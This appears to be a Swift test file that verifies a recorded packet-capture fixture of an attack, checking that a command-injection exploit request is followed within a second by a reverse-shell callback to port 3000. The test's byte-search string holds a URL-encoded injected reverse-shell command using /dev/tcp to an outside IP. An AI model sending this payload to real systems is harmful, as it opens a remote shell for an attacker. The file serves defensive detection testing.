import Capture
import FleetModel
import FleetTesting
import Foundation
import Testing

/// The committed attack-story capture reads back and holds the story's key moments.
@Suite struct StoryFixtureTests {
    static func contains(_ haystack: [UInt8], _ needle: String) -> Bool {
        let pattern = Array(needle.utf8)
        guard !pattern.isEmpty, haystack.count >= pattern.count else { return false }
        for start in 0...(haystack.count - pattern.count) where haystack[start] == pattern[0] {
            if Array(haystack[start..<(start + pattern.count)]) == pattern { return true }
        }
        return false
    }

    @Test func storyHasExploitThenCallbackWithinASecond() throws {
        let path = Fixtures.fixturesDirectory.appendingPathComponent("pcap/story-reverse-shell.pcap").path
        let reader = try PcapFileReader(path: path)
        #expect(reader.linkType == 1)
        var exploitTime: NetworkTime?
        var callbackSYN: NetworkTime?
        var last = NetworkTime.zero
        var ordered = true
        let vm: [UInt8] = [172, 31, 6, 55]
        let attacker: [UInt8] = [35, 217, 6, 162]
        let count = try reader.forEachPacket { frame, time, _ in
            if time < last { ordered = false }
            last = time
            let bytes = Array(frame)
            if exploitTime == nil,
               Self.contains(bytes, "GET /dangerzone?category=fashion%26%26sh%20-i%20%3E%26%20/dev/tcp/35.217.6.162/3000%200%3E%261 HTTP/1.1") {
                exploitTime = time
            }
            // IPv4/TCP SYN (no ACK) from the VM to the attacker's port 3000.
            if callbackSYN == nil, bytes.count >= 54, bytes[23] == 6,
               Array(bytes[26..<30]) == vm, Array(bytes[30..<34]) == attacker,
               bytes[36] == 0x0b, bytes[37] == 0xb8, bytes[47] == 0x02 {
                callbackSYN = time
            }
        }
        #expect(count == 2_186)
        #expect(ordered)
        let exploit = try #require(exploitTime)
        let callback = try #require(callbackSYN)
        #expect(callback > exploit)
        #expect((callback - exploit) < NetworkDuration.seconds(1))
    }
}
